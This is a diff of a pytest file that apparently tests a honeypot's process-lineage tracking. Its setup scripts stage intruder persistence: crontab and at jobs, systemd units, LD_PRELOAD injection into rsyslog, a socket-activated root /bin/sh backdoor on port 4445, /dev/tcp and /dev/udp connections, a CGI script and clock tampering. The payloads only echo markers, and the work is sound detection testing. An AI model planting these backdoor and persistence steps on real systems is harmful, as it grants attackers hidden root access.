@@ -38,21 +38,21 @@ socket(P, 17, 3, 0x0300);
 """
 
 # Each leaves a program to be run by somebody else, told apart by what it echoes.
-FIRST = f"""
+FIRST = rf"""
 /bin/true visit-first
 cd /usr/local/bin
-echo '* * * * * root /bin/echo from-crontab' >>/etc/crontab
+echo '* * * * * root /bin/echo from-crontab "two words" \%s' >>/etc/crontab
 echo '* * * * * /bin/echo from-own-crontab' | crontab -
 echo '/bin/echo from-at' | at now
-printf '#!/bin/sh\\n/bin/echo from-script\\n' >report
-printf '/bin/echo from-read-script\\n' >report.inc
+printf '#!/bin/sh\n/bin/echo from-script\n' >report
+printf '/bin/echo from-read-script\n' >report.inc
 chmod 755 report
-unit() {{ printf "[Service]\\nType=oneshot\\nExecStart=$2\\n" >/etc/systemd/system/$1.service; }}
+unit() {{ printf "[Service]\nType=oneshot\nExecStart=$2\n" >/etc/systemd/system/$1.service; }}
 unit report /usr/local/bin/report
 unit read '/bin/sh /usr/local/bin/report.inc'
 unit words "/bin/sh -c '/bin/echo from-unit; :'"
 mkdir -p /etc/systemd/system/rsyslog.service.d
-printf '[Service]\\nEnvironment=LD_PRELOAD={LIBRARY}\\n' >/etc/systemd/system/rsyslog.service.d/audit.conf
+printf '[Service]\nEnvironment=LD_PRELOAD={LIBRARY}\n' >/etc/systemd/system/rsyslog.service.d/audit.conf
 systemctl daemon-reload
 systemctl start report read words
 systemctl restart rsyslog
@@ -65,8 +65,17 @@ setsid perl /usr/local/bin/door >/dev/null 2>&1 </dev/null &
 perl /usr/local/bin/sends
 bash -c 'echo z >/dev/udp/{FAR}/4003'
 sleep 1
+printf '[Socket]\nListenStream=4445\nAccept=yes\n' >/etc/systemd/system/helper.socket
+printf '[Service]\nExecStart=/bin/sh\nStandardInput=socket\n' >/etc/systemd/system/helper@.service
+systemctl daemon-reload
+systemctl start helper.socket
 bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; echo "/bin/echo from-loopback; exit" >&3; cat <&3' >/dev/null
-bash -c 'exec 3<>/dev/tcp/127.0.0.1/22; read line <&3'
+bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; echo "GET /" >&3; cat <&3' >/dev/null
+printf '#!/bin/sh\n/bin/echo from-cgi >&2; printf "Content-Type: text/plain\\n\\nhello"\n' >/usr/lib/cgi-bin/report
+chmod 755 /usr/lib/cgi-bin/report
+a2enmod -q cgid && a2enconf -q serve-cgi-bin && systemctl restart apache2
+now=$(date +%s)
+date -s @$((now - now % 3600 + 3600 * (now % 3600 > 1000) + 1015))
 """
 
 SECOND = """
@@ -77,10 +86,12 @@ timeout 3 screen -r work
 
 CLEAN = """
 /bin/true visit-last
+a2dismod -q cgid; a2disconf -q serve-cgi-bin; rm -f /usr/lib/cgi-bin/report
 sed -i /from-crontab/d /etc/crontab
 crontab -r
-rm -rf /etc/systemd/system/report.service /etc/systemd/system/read.service /etc/systemd/system/words.service
-rm -rf /etc/systemd/system/rsyslog.service.d
+cd /etc/systemd/system
+systemctl stop helper.socket
+rm -rf report.service read.service words.service rsyslog.service.d helper.socket helper@.service
 printf '[Service]\\nType=oneshot\\nExecStart=/bin/echo from-next-boot\\n[Install]\\nWantedBy=multi-user.target\\n' \
 	>/etc/systemd/system/later.service
 systemctl enable later
@@ -110,9 +121,9 @@ def put(path, content):
 
 
 def run_of(skep, *args):
-    """The exec event with these arguments, or None."""
-    for e in skep.events("--kind", "exec", "--honeypot", "Apache"):
-        if e["process"].get("args") == list(args):
+    """The newest exec event whose arguments begin with these, or None."""
+    for e in reversed(skep.events("--kind", "exec", "--honeypot", "Apache")):
+        if e["process"].get("args", [])[:len(args)] == list(args):
             return e
     return None
 
@@ -125,12 +136,12 @@ def session_of(skep, marker):
 
 
 def library():
-    """A library with nothing in it: it only has to be there to be loaded."""
+    """A library that is only there to be loaded."""
     folder = "/tmp/skep-lineage-library"
     os.makedirs(folder, exist_ok=True)
     path = os.path.join(folder, "x.so")
     subprocess.run(["gcc", "-shared", "-nostdlib", "-s", "-x", "c", "-o", path, "-"], check=True,
-                   input=b"int audit_plugin = 1;\n")
+                   input=b"int audit_plugin(void) { return 1; }\n")
     with open(path, "rb") as f:
         content = f.read()
     os.remove(path)
@@ -178,7 +189,7 @@ def test_what_others_do_for_him_is_his(skep, first, who):
     {"action": "file", "path": "/usr/local/bin/report.inc"},
     {"action": "file", "path": LIBRARY, "name": "rsyslogd"},
     {"action": "socket", "path": "/run/systemd/private"},
-    {"action": "socket", "name": "sshd"},
+    {"action": "socket", "name": "apache2"},
 ], ids=str)
 def test_why_it_is_his_is_told(skep, first, want):
     assert wait_for(lambda: lineage(skep, first, **want), 90, 1)
@@ -189,9 +200,10 @@ def test_at_is_told_by_its_job_file(skep, first):
     assert jobs[0]["file"]["path"].startswith("/var/spool/cron/atjobs/")
 
 
-def test_the_daemons_themselves_stay_nobodys(skep, first):
-    """The lines that were in /etc/crontab before run as nobody's, and so do cron's and init's other children."""
-    wait_for(lambda: run_of(skep, "/bin/echo", "from-crontab"), 90, 1)
+def test_what_was_there_before_stays_nobodys(skep, first):
+    """The line above his in /etc/crontab, for which he has set the clock; and the daemons themselves."""
+    hourly = wait_for(lambda: run_of(skep, "/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"), 90, 1)
+    assert "session" not in hourly
     assert not [e for e in skep.events("--kind", "lineage", "--honeypot", "Apache")
                 if e["process"]["pid"] == 1 or e["process"]["name"] == "cron" and e["event"]["action"] != "job"]
 
@@ -227,15 +239,32 @@ def test_raw_and_packet_sockets_are_told(skep, first):
     assert (2, 3, "perl") in made and (17, 3, "perl") in made
 
 
-def test_a_back_door_is_his_and_who_comes_through_it_is_himself(skep, first):
+def test_a_back_door_is_his(skep, first):
     for kind in ("bind", "listen"):
         doors = [e for e in skep.events("--kind", kind, "--honeypot", "Apache") if e["src_port"] == 4444]
         assert doors and all(e["session"] == first for e in doors)
-    skep.lab("python3", "-c", "import socket; s = socket.create_connection(('%s', 4444)); "
-             "s.sendall(b'/bin/echo from-the-door; exit\\n'); print(s.recv(99))" % APACHE)
-    e = wait_for(lambda: run_of(skep, "/bin/echo", "from-the-door"), 20, 0.5)
+
+
+@pytest.mark.parametrize("port", [4444, 4445], ids=["of-his-own", "of-init"])
+def test_who_comes_through_a_back_door_is_himself(skep, first, port):
+    skep.lab("python3", "-c", f"import socket; s = socket.create_connection(('{APACHE}', {port})); "
+             f"s.sendall(b'/bin/echo from-{port}; exit\\n'); print(s.recv(99))")
+    e = wait_for(lambda: run_of(skep, "/bin/echo", f"from-{port}"), 20, 0.5)
+    shell = next(x for x in skep.events("--kind", "exec", "--honeypot", "Apache")
+                 if x["process"]["entity_id"] == e["process"]["parent"]["entity_id"])
     s = next(s for s in skep.json("sessions", "--all") if s["id"] == e["session"])
-    assert s["id"] != first and s["dest_port"] == 4444
+    assert s["id"] != first and s["dest_port"] == port and shell["session"] == s["id"]
+
+
+def test_a_web_server_and_its_helpers_work_for_who_asks(skep, first):
+    """The request goes from a thread of apache2 over a unix socket to a daemon, which runs what the intruder wrote."""
+    def answered():
+        """the script's answer"""
+        return skep.lab("curl", "-s", f"http://{APACHE}/cgi-bin/report", check=False).stdout == "hello"
+    wait_for(answered, 60, 1)
+    e = wait_for(lambda: run_of(skep, "/bin/echo", "from-cgi"), 20, 0.5)
+    s = next(s for s in skep.json("sessions", "--all") if s["id"] == e["session"])
+    assert s["id"] != first and s["dest_port"] == 80
 
 
 def test_a_terminal_that_was_left_stays_whose_it_is(skep, first, second):
